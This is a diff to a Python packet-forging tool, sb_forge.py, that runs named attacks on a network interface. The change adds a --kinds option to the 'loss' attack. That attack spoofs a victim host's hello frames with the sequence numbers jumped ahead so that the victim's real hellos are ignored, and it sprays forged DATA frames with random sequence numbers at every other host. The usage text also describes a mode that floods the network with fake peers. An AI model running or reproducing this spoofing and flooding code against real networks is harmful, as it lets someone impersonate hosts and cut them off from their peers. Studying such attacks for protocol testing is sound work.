@@ -19,9 +19,10 @@ Usage: sb_forge.py ATTACK IFACE [options]
                every host's port here
   fill         [--ids 80] [--first-id N] [--period-ms 100]: that many new peers, each
                hello once per period
-  loss         --host A [--pps 3] [--gap 99000]: A's hello with its hello sequence --gap
-               ahead of the last one (of A's or of ours), and a DATA frame to every other
-               host's port with a random path sequence and sequence number
+  loss         --host A [--pps 3] [--gap 99000] [--kinds hello,data]: A's hello with its
+               hello sequence --gap ahead of the last one (of A's or of ours), and a DATA
+               frame to every other host's port with a random path sequence and sequence
+               number (--kinds: only those)
   wait-hello   --host H [--src MAC] [--timeout S]: print the time (epoch seconds) of the
                first hello of H (from MAC) seen on IFACE, sent or received; nothing sent
 Options: --learn S (default 1.0), --time S (default 0: until SIGTERM/SIGINT), --seed N.
@@ -331,9 +332,9 @@ def attack_loss(sw, a):
         sw.listen(0)                    # the victim's latest number, for the first jump
         # Each jump from the last: the victim's own hellos fall behind and count nothing.
         fseq = ((victim.seq if fseq is None else fseq) + a.gap) & 0xFFFFFFFF
-        f = patched(victim, seq=fseq)
-        sw.send(bytes(f))
-        for t in targets:
+        if "hello" in a.kinds:
+            sw.send(bytes(patched(victim, seq=fseq)))
+        for t in targets if "data" in a.kinds else ():
             sw.send(data(sw, t.mac, victim.mac, victim.index, random.getrandbits(8),
                          random.getrandbits(32)))
 
@@ -388,6 +389,7 @@ def main():
     ap.add_argument("--first-id", type=int, default=1000)
     ap.add_argument("--period-ms", type=float, default=100)
     ap.add_argument("--gap", type=int, default=99000)
+    ap.add_argument("--kinds", default="hello,data")
     ap.add_argument("--src")
     ap.add_argument("--timeout", type=float, default=20)
     a = ap.parse_args()
